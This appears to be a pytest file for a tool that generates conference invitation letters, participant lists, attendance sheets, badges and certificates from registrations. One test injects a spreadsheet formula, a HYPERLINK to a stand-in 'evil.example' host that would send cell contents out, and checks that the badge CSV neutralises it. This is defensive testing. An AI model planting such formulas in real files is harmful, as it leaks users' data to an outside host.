@@ -1,0 +1,490 @@
+"""From invitations to the room, for the Hague example and its registrations, read as their
+readers would: the invitation letters (a page per invited country and per allocation, with the
+right seats and notes), the participant list (every consenting registrant, no one else named),
+the attendance sheets (a sheet per day listing everyone), the badges (one per registrant) and the
+certificates (only for those who attended). Word documents are opened with python-docx and
+converted by LibreOffice; PDFs are read page by page with pdftotext."""
+
+from __future__ import annotations
+
+import csv
+import io
+import os
+import re
+import subprocess
+import unicodedata
+from pathlib import Path
+from typing import Any
+
+import docx
+import html5lib
+import pytest
+
+import confdocs
+from tests.conftest import HAGUE, ROOT, confdocs_cli, load_script, require_tool
+
+REGISTRATIONS = HAGUE.parent / "registrations.csv"
+SCRIPT = ROOT / "scripts" / "make_recipient_templates.py"
+W = "{http://schemas.openxmlformats.org/wordprocessingml/2006/main}"
+#: In the Hague registrations: those who did not agree to be listed, and who never came.
+NOT_CONSENTING = {
+    "Koffi AGOSSOU", "Yasmín PERALTA", "Aram HAKOBYAN", "Driton GASHI", "Jonas BECKER",
+    "Kenji WATANABE",
+}
+NO_SHOWS = {"Thiago MOREIRA", "Georges KHOURY", "Ingrid HAUGEN"}
+
+
+# -- reading documents -------------------------------------------------------------------------
+
+
+def flat(text: str) -> str:
+    return " ".join(unicodedata.normalize("NFC", text).split())
+
+
+def docx_pages(data: bytes) -> list[str]:
+    """The text of a Word document, paragraphs and table cells in order, cut where a page
+    starts (a paragraph that breaks the page before itself)."""
+    document = docx.Document(io.BytesIO(data))
+    pages: list[list[str]] = [[]]
+    for block in document.element.body.iterchildren():
+        if block.tag == f"{W}p":
+            style = block.find(f"{W}pPr/{W}pStyle")
+            if style is not None and style.get(f"{W}val") == "PageStart":
+                pages.append([])
+        pages[-1].append("".join(t.text or "" for t in block.iter(f"{W}t")))
+        if block.tag == f"{W}tbl":
+            pages[-1].append(" | ".join(
+                "".join(t.text or "" for t in cell.iter(f"{W}t")) for cell in block.iter(f"{W}tc")
+            ))
+    return [flat(" ".join(page)) for page in pages]
+
+
+def pdf_pages(data: bytes, folder: Path) -> list[str]:
+    require_tool("pdftotext")
+    path = folder / "document.pdf"
+    path.write_bytes(data)
+    text = subprocess.run(
+        ["pdftotext", str(path), "-"], capture_output=True, check=True, text=True
+    ).stdout
+    return [flat(page) for page in text.split("\f") if page.strip()]
+
+
+def libreoffice_pdf(data: bytes, folder: Path, name: str) -> bytes:
+    soffice = require_tool("soffice")
+    source = folder / name
+    source.write_bytes(data)
+    subprocess.run(
+        [soffice, "--headless", "--convert-to", "pdf", "--outdir", str(folder), str(source)],
+        capture_output=True,
+        env={**os.environ, "HOME": str(folder)},
+        timeout=240,
+        check=False,
+    )
+    made = source.with_suffix(".pdf")
+    assert made.is_file(), f"LibreOffice made no PDF of {name}"
+    return made.read_bytes()
+
+
+def html_text(data: bytes) -> str:
+    tree = html5lib.parse(data, namespaceHTMLElements=False)
+    for style in tree.iter("style"):
+        style.text = ""
+    return flat(" ".join(tree.itertext()))
+
+
+# -- the Hague example and what it should give -----------------------------------------------
+
+
+@pytest.fixture(scope="module")
+def hague() -> tuple[Any, Any]:
+    return confdocs.load_event(HAGUE), confdocs.load_registrations(REGISTRATIONS)
+
+
+@pytest.fixture(scope="module")
+def view(hague: tuple[Any, Any]) -> Any:
+    event, registrations = hague
+    return confdocs.prepare_view(event, registrations=registrations)
+
+
+FORMATS = [
+    "letters", "participant-list", "participant-list-html", "sign-in", "sign-in-pdf", "badges",
+    "badges-csv", "certificates", "certificates-pdf",
+]
+
+
+@pytest.fixture(scope="module")
+def built(hague: tuple[Any, Any]) -> dict[str, bytes]:
+    event, registrations = hague
+    result = confdocs.build(event, FORMATS, registrations=registrations)
+    assert result.ok, result.failures
+    assert [doc.format for doc in result.documents] == FORMATS
+    return {doc.format: doc.data for doc in result.documents}
+
+
+def invited(event: Any) -> dict[str, list[tuple[str, int]]]:
+    """Each invited country's groups and seats, from the rules as the outline states them."""
+    out: dict[str, list[tuple[str, int]]] = {}
+    for group in event.participants.groups:
+        for country in group.countries:
+            seats = next(
+                (r.seats for r in group.exceptions if r.country == country and r.seats is not None),
+                group.seats_per_country,
+            )
+            out.setdefault(country, []).append((group.project, seats))
+    return out
+
+
+def people(registrations: Any, event: Any) -> list[str]:
+    """Every registrant's name by the outline's rule (family name in capitals)."""
+    return [
+        confdocs.view.written_name(r.name, r.family_name, event.settings) for r in registrations
+    ]
+
+
+# -- letters -----------------------------------------------------------------------------------
+
+
+def test_a_letter_for_each_of_the_38_countries_and_each_allocation(
+    hague: tuple[Any, Any], built: dict[str, bytes]
+) -> None:
+    event, _ = hague
+    countries = invited(event)
+    assert len(countries) == 38
+    pages = docx_pages(built["letters"])
+    allocations = event.participants.allocations
+    assert len(pages) == 38 + len(allocations) == 46
+    names = {code: confdocs.view.country_name(code, "en_GB", event.settings.country_names)
+             for code in countries}
+    for page, (code, groups) in zip(pages, countries.items(), strict=False):
+        assert f"The competent authorities {names[code]}" in page, page[:200]
+        seats = sum(n for _, n in groups)
+        assert f"You are invited to nominate {seats} participant" in page
+        for project, n in groups:
+            assert f"{project}: {n} participant{'s' if n != 1 else ''}" in page
+        assert "Each delegation should be composed of:" in page
+        assert "1 × specialised prosecutor or member of the central authority" in page
+        assert "by 30 August 2019 to:" in page
+        assert "Manuel DE ALMEIDA PEREIRA" in page and "Peter GOUWY" in page
+        assert "Alexander SEGER" in page
+    seats = {a.id: a.seats * (28 if a.country_set else len(a.countries) or 1)
+             for a in allocations}
+    for page, allocation in zip(pages[38:], allocations, strict=True):
+        assert flat(allocation.label) in page
+        count = seats[allocation.id]
+        assert f"You are invited to nominate {count} participant" in page
+        assert "Each delegation" not in page
+    assert seats["eurojust-national-members"] == 28
+
+
+def test_each_letter_carries_the_notes_that_apply(built: dict[str, bytes]) -> None:
+    pages = {re.search(r"The competent authorities (.+?) Invitation", p).group(1): p  # type: ignore[union-attr]
+             for p in docx_pages(built["letters"]) if "The competent authorities" in p}
+    kosovo = "This designation is without prejudice to positions on status"
+    one_cybereast = "Armenia, Azerbaijan and Ukraine should only appoint one participant"
+    one_endocsea = "The priority countries of EndOCSEA@Europe project should appoint only one"
+    assert kosovo in pages["Kosovo"]
+    assert sum(kosovo in page for page in pages.values()) == 1
+    for country in ("Armenia", "Azerbaijan", "Ukraine"):
+        assert "CyberEast: 1 participant" in pages[country]
+        assert "EndOCSEA@Europe: 1 participant" in pages[country]
+        assert one_cybereast in pages[country] and one_endocsea in pages[country]
+    assert "CyberEast: 2 participants" in pages["Georgia"]
+    assert one_cybereast in pages["Georgia"] and one_endocsea not in pages["Georgia"]
+    assert not any(n in pages["Argentina"] for n in (kosovo, one_cybereast, one_endocsea))
+
+
+def test_letters_are_a_page_each_in_libreoffice(built: dict[str, bytes], tmp_path: Path) -> None:
+    """The default letterhead template fits each Hague letter on its page."""
+    pdf = libreoffice_pdf(built["letters"], tmp_path, "letters.docx")
+    pages = pdf_pages(pdf, tmp_path)
+    assert len(pages) == 46
+    assert all(page.count("Strasbourg, 15 July 2019") == 1 for page in pages)
+    assert all("Funded by the European Union" in page for page in pages)  # the letterhead
+    assert "Kosovo" in pages[28] and "Yours faithfully" in pages[28]
+
+
+def test_letters_follow_the_documents_language(hague: tuple[Any, Any]) -> None:
+    event, _ = hague
+    [doc] = confdocs.build(event, ["letters"], {"locale": "fr"}).documents
+    first = docx_pages(doc.data)[0]
+    assert "Autorités compétentes Argentine" in first
+    assert "Nous vous invitons à désigner 2 participant(e)s" in first
+    assert "avant le 30 août 2019" in first
+    assert "Strasbourg, le 15 juillet 2019" in first
+
+
+# -- the participant list ----------------------------------------------------------------------
+
+
+def test_every_consenting_registrant_is_listed_and_no_one_else(
+    hague: tuple[Any, Any], built: dict[str, bytes]
+) -> None:
+    event, registrations = hague
+    names = people(registrations, event)
+    consenting = [n for n, r in zip(names, registrations, strict=True) if r.consent]
+    assert set(names) - set(consenting) == NOT_CONSENTING
+    texts = {
+        "participant-list": " ".join(docx_pages(built["participant-list"])),
+        "participant-list-html": html_text(built["participant-list-html"]),
+    }
+    for fmt, text in texts.items():
+        for name in consenting:
+            assert name in text, f"{name} is not on the {fmt}"
+        for name in NOT_CONSENTING:
+            assert name not in text, f"{name} did not consent but is on the {fmt}"
+        for registration in registrations:
+            assert registration.email not in text
+        assert "116 registered participants." in text
+        assert "6 participants who have not agreed to be listed are not named." in text
+        assert "1 participant who has not agreed to be listed is not named." in text
+
+
+def test_the_list_groups_by_country_then_organisation(view: Any) -> None:
+    part = view.registrants.participant_list
+    delegations, organisations = part.sections
+    assert (delegations.heading, organisations.heading) == ("Delegations", "Organisations")
+    headings = [g.heading for g in delegations.groups]
+    assert headings[:3] == ["Albania", "Algeria", "Argentina"] and len(headings) == 38
+    # Organisations in the order of their allocations; both of Eurojust's together.
+    assert [g.heading for g in organisations.groups] == [
+        "Eurojust", "United States Department of Justice",
+        "United Nations Office on Drugs and Crime", "Europol", "INTERPOL",
+        "Directorate-General for International Cooperation and Development, European "
+        "Commission", "Council of Europe",
+    ]
+    benin = next(g for g in delegations.groups if g.heading == "Benin")
+    assert [e.name for e in benin.entries] == ["Adjoa HOUNGBÉDJI"]
+    assert benin.unnamed == 1
+    eurojust = organisations.groups[0]
+    # 27 national members registered (of 28 seats) and the 6 liaison prosecutors.
+    assert len(eurojust.entries) + eurojust.unnamed == 27 + 6
+    assert {e.detail for e in eurojust.entries} >= {"Croatia", "Norway"}
+    assert [e.number for g in part.groups for e in g.entries] == list(range(1, 111))
+
+
+def test_the_list_looks_like_a_list_in_libreoffice(
+    built: dict[str, bytes], tmp_path: Path
+) -> None:
+    pages = pdf_pages(libreoffice_pdf(built["participant-list"], tmp_path, "list.docx"), tmp_path)
+    text = " ".join(pages)
+    assert text.index("Delegations") < text.index("Albania") < text.index("Organisations")
+    assert "No. Name Organisation Role" in text
+
+
+# -- attendance sheets -------------------------------------------------------------------------
+
+
+def test_a_sheet_per_day_listing_everyone(
+    hague: tuple[Any, Any], built: dict[str, bytes], tmp_path: Path
+) -> None:
+    event, registrations = hague
+    names = people(registrations, event)
+    document = docx.Document(io.BytesIO(built["sign-in"]))
+    tables = document.tables
+    assert len(tables) == 2  # 30 September and 1 October; the preparation day is not the event's
+    for table in tables:
+        rows = [[cell.text for cell in row.cells] for row in table.rows]
+        assert rows[0] == ["No.", "Name", "Country or organisation", "Signature"]
+        listed = [re.sub(r"^(Dr|Judge|Prof\.|Mr) ", "", row[1]) for row in rows[1:]]
+        assert sorted(listed) == sorted(names)
+        assert all(row[3] == "" for row in rows[1:])
+    sheets: list[list[str]] = []
+    for page in pdf_pages(built["sign-in-pdf"], tmp_path):
+        if "Attendance sheet, " in page:  # a sheet starts a page; its next pages follow it
+            sheets.append([])
+        sheets[-1].append(page)
+    assert len(sheets) == 2
+    for sheet, day in zip(sheets, ("Monday, 30 September 2019", "Tuesday, 1 October 2019"),
+                          strict=True):
+        assert f"Attendance sheet, {day}" in sheet[0]
+        text = " ".join(sheet)
+        for name in names:
+            assert name in text, f"{name} is not on the sheet of {day}"
+        # The header row repeats on every page (pdftotext reads the last column apart).
+        assert all(" No. Name Country or organisation " in p and "Signature" in p for p in sheet)
+
+
+def test_sheets_are_ready_to_print_in_libreoffice(
+    built: dict[str, bytes], tmp_path: Path
+) -> None:
+    pdf = libreoffice_pdf(built["sign-in"], tmp_path, "sign-in.docx")
+    pages = pdf_pages(pdf, tmp_path)
+    first = [i for i, p in enumerate(pages) if "Attendance sheet, Monday" in p]
+    second = [i for i, p in enumerate(pages) if "Attendance sheet, Tuesday" in p]
+    assert first == [0] and len(second) == 1 and second[0] > 0  # the second day starts a page
+    # The header row repeats on every page (pdftotext reads its cells apart).
+    assert all(" No. Name Country or organisation " in p and "Signature" in p for p in pages)
+    assert " 116 " in " ".join(pages[: second[0]]) and " 117 " not in " ".join(pages)
+
+
+def test_those_following_online_sign_no_sheet(hague: tuple[Any, Any]) -> None:
+    event, registrations = hague
+    online = registrations.rows[0].__class__(
+        name="Ola Online", email="ola@x.example", group="glacy-plus", role="other", country="AR",
+        attendance="online",
+    )
+    regs = confdocs.Registrations("r.csv", (*registrations.rows, online))
+    made = confdocs.make_view(event, registrations=regs)
+    assert all("Ola Online" not in [r.name for r in s.rows] for s in made.registrants.sign_in)
+    assert any(b.name == "Ola Online" for b in made.registrants.badges)
+
+
+# -- badges ------------------------------------------------------------------------------------
+
+
+def test_one_badge_per_registrant(
+    hague: tuple[Any, Any], built: dict[str, bytes], tmp_path: Path
+) -> None:
+    event, registrations = hague
+    names = people(registrations, event)
+    pages = pdf_pages(built["badges"], tmp_path)
+    assert len(pages) == 15  # 116 badges, eight a page
+    text = " ".join(pages)
+    for name in names:
+        assert text.count(name) == 1 + sum(1 for n in names if name in n and n != name), name
+    first = pages[0]
+    assert first.index("Mariana SOSA") < first.index("Argentina") < first.index(
+        "Prosecutor or central authority"
+    )
+    assert "Eurojust, Austria" in text  # an allocation's representative: organisation, country
+    rows = list(csv.DictReader(io.StringIO(built["badges-csv"].decode("utf-8-sig"))))
+    assert [r["name"] for r in rows] == names
+    assert rows[0]["affiliation"] == "Argentina" and rows[0]["id"] == "mariana-sosa"
+    assert rows[0]["role"] == "Prosecutor or central authority"
+    assert "email" not in rows[0] and "phone" not in rows[0]
+
+
+def test_badge_csv_cells_cannot_run_as_formulas(hague: tuple[Any, Any]) -> None:
+    event, _ = hague
+    regs = confdocs.Registrations("r.csv", (
+        confdocs.Registration(
+            name='=HYPERLINK("https://evil.example/?"&A1,"x")', email="e@x.example",
+            group="europol", organisation="@SUM(1+1)",
+        ),
+    ))
+    [doc] = confdocs.build(event, ["badges-csv"], registrations=regs).documents
+    [row] = list(csv.DictReader(io.StringIO(doc.data.decode("utf-8-sig"))))
+    assert row["name"].startswith("'=") and row["organisation"] == "'@SUM(1+1)"
+
+
+# -- certificates ------------------------------------------------------------------------------
+
+
+def test_certificates_only_for_those_who_attended(
+    hague: tuple[Any, Any], built: dict[str, bytes], tmp_path: Path
+) -> None:
+    event, registrations = hague
+    attended = [n for n, r in zip(people(registrations, event), registrations, strict=True)
+                if r.attended]
+    assert len(attended) == 113
+    for fmt, pages in (
+        ("certificates", docx_pages(built["certificates"])),
+        ("certificates-pdf", pdf_pages(built["certificates-pdf"], tmp_path)),
+    ):
+        assert len(pages) == 113, fmt
+        for page, name in zip(pages, attended, strict=True):
+            assert name in page
+        for name in NO_SHOWS:
+            assert not any(name in page for page in pages), f"{name} never came ({fmt})"
+
+
+def test_a_certificate_is_in_the_participants_language(built: dict[str, bytes]) -> None:
+    pages = docx_pages(built["certificates"])
+    sosa = next(p for p in pages if "Mariana SOSA" in p)  # Spanish
+    assert "Certificado de asistencia" in sosa
+    assert "los días 30 de septiembre de 2019 y 1 de octubre de 2019." in sosa
+    agossou = next(p for p in pages if "Koffi AGOSSOU" in p)  # French, both days
+    assert "Attestation de participation" in agossou and "les 30 septembre 2019" in agossou
+    semedo = next(p for p in pages if "Nelson SEMEDO" in p)  # Portuguese, one day
+    assert "em 30 de setembro de 2019." in semedo
+    weber = next(p for p in pages if "Marc WEBER" in p)  # English, the first day only
+    assert "on 30 September 2019." in weber and "30 September 2019 and" not in weber
+
+
+# -- one file per recipient ------------------------------------------------------------------
+
+
+def test_each_writes_a_file_per_recipient_inside_the_output_folder(tmp_path: Path) -> None:
+    out = tmp_path / "out"
+    done = confdocs_cli(
+        "build", str(HAGUE), "-r", str(REGISTRATIONS), "-f", "letters", "-f", "badges",
+        "-f", "sign-in-pdf", "--each", "-o", str(out),
+    )
+    assert done.returncode == 0, done.stderr
+    names = sorted(p.name for p in out.iterdir())
+    assert "hague-2019.AR.letters.docx" in names and "hague-2019.europol.letters.docx" in names
+    assert "hague-2019.mariana-sosa.badges.pdf" in names
+    assert "hague-2019.femke-de-vries.badges.pdf" in names
+    assert [
+        n for n in names if n.endswith("sign-in.pdf")
+    ] == ["hague-2019.2019-09-30.sign-in.pdf", "hague-2019.2019-10-01.sign-in.pdf"]
+    assert sum(n.endswith(".letters.docx") for n in names) == 46
+    assert sum(n.endswith(".badges.pdf") for n in names) == 116
+    assert all(p.parent == out for p in out.iterdir())
+
+
+def test_formats_made_of_registrations_need_them(tmp_path: Path) -> None:
+    done = confdocs_cli("build", str(HAGUE), "-f", "badges", "-o", str(tmp_path / "out"))
+    assert done.returncode == 2 and "Traceback" not in done.stderr
+    assert "format 'badges' is made from the registrations" in done.stderr
+    assert not (tmp_path / "out").exists()
+    every = confdocs_cli("build", str(HAGUE), "-o", str(tmp_path / "all"))
+    assert every.returncode == 0, every.stderr
+    assert "not built without --registrations: badges, badges-csv" in every.stderr
+    assert (tmp_path / "all" / "hague-2019.letters.docx").is_file()  # letters need none
+
+
+def test_registrations_go_with_one_event(tmp_path: Path) -> None:
+    done = confdocs_cli(
+        "build", str(HAGUE), str(ROOT / "examples" / "minimal" / "event.yaml"),
+        "-r", str(REGISTRATIONS), "-o", str(tmp_path),
+    )
+    assert done.returncode == 2 and "give exactly one event" in done.stderr
+
+
+# -- the templates -----------------------------------------------------------------------------
+
+
+def test_shipped_templates_are_what_the_script_makes(tmp_path: Path) -> None:
+    script = load_script(SCRIPT)
+    assert script.main(["make_recipient_templates.py", str(tmp_path)]) == 0
+    for name in script.TEMPLATES:
+        shipped = script.FOLDER / name
+        assert (tmp_path / name).read_bytes() == shipped.read_bytes(), (
+            f"{name} differs: run python scripts/make_recipient_templates.py"
+        )
+
+
+def test_a_users_letterhead_replaces_the_template(
+    hague: tuple[Any, Any], tmp_path: Path
+) -> None:
+    event, _ = hague
+    letterhead = tmp_path / "letterhead.docx"
+    document = docx.Document()
+    document.sections[0].header.paragraphs[0].text = "MINISTRY OF EXAMPLES – LETTERHEAD"
+    for text in ("{%p for letter in letters %}", "{{ letter.addressee }} {{ letter.country }}",
+                 "{{r letter.seats_line.runs }}", "{%p endfor %}"):
+        document.add_paragraph(text)
+    document.save(letterhead)
+    [doc] = confdocs.build(event, ["letters"], {"template": str(letterhead)}).documents
+    made = docx.Document(io.BytesIO(doc.data))
+    assert made.sections[0].header.paragraphs[0].text == "MINISTRY OF EXAMPLES – LETTERHEAD"
+    lines = [p.text for p in made.paragraphs]
+    assert lines[0] == "The competent authorities Argentina"
+    assert lines[1] == "You are invited to nominate 2 participants:"
+    assert len(lines) == 92
+
+
+def test_a_mistake_in_a_users_letterhead_names_the_tag(tmp_path: Path) -> None:
+    letterhead = tmp_path / "letterhead.docx"
+    document = docx.Document()
+    document.add_paragraph("{%p for letter in letters %}")
+    document.add_paragraph("{{ letter.adresse }}")
+    document.add_paragraph("{%p endfor %}")
+    document.save(letterhead)
+    done = confdocs_cli(
+        "build", str(HAGUE), "-f", "letters", "--template", str(letterhead),
+        "-o", str(tmp_path / "out"),
+    )
+    assert done.returncode == 2 and "Traceback" not in done.stderr
+    assert f"{letterhead}: unknown variable in tag {{{{ letter.adresse }}}}" in done.stderr
